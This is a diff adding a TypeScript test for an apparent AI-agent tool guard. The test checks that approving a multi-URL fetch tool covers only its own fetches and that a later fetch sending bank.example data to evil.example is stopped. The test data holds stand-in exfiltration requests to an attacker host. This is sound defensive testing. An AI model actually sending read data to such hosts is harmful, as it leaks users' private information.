@@ -367,3 +367,44 @@ describe('a program step only the guard asks about (code mode): the gate’s yes
     expect(sent).toEqual([`${EVIL}/c?d=1`]);
   });
 });
+
+describe('calls a step makes itself are part of the step the user approved', () => {
+  const many = defineTool({
+    pack: 'web',
+    name: 'many',
+    description: 'fetch several',
+    parameters: z.object({ urls: z.array(z.string()) }),
+    effect: 'reads',
+    flow: FLOW.requestsUrl,
+    execute: async (a, ctx) => {
+      const out: unknown[] = [];
+      for (const url of a.urls) out.push(await ctx.callTool('web.fetch', { url }));
+      return out.join(', ');
+    },
+  }) as AnyTool;
+
+  it('a yes to web.fetch_many-like step covers its own fetches (one card); after it ended, a sibling call is asked again', async () => {
+    sent.length = 0;
+    const g = guarded([BANK]);
+    g.registry.register(many);
+    const call = createToolCaller(g.registry, new ToolInterceptor({ logger: newLogger() }));
+    const asked: string[] = [];
+    const gate = async (tool: AnyTool, args: Record<string, unknown>, ctx: ToolContext) => {
+      const refused = await ctx.flow!.refusals(tool, args, ctx.tabId);
+      if (!refused.length) return;
+      asked.push(`${tool.pack}.${tool.name} ${JSON.stringify(args)}`);
+      if (tool.name === 'many') ctx.flow!.allowOnce(args, refused);
+    };
+    const ctx: ToolContext = makeCtx({ tabId: 1, callTool: (n, a = {}) => call(n, a, ctx, { gate }), flow: g.guard });
+    const urls = [`${EVIL}/a`, `${EVIL}/b`];
+    expect(await ctx.callTool('web.many', { urls })).toBe(`fetched ${EVIL}/a, fetched ${EVIL}/b`);
+    expect(asked).toEqual([`web.many {"urls":["${EVIL}/a","${EVIL}/b"]}`]);
+    expect(sent).toEqual(urls);
+    // The approved call has ended: the same fetch on its own is a new question, and without a yes nothing leaves.
+    await expect(ctx.callTool('web.fetch', { url: `${EVIL}/a` })).rejects.toThrow(
+      'web.fetch was stopped before it ran: Data read from bank.example may be sent to evil.example',
+    );
+    expect(asked).toHaveLength(2);
+    expect(sent).toEqual(urls);
+  });
+});
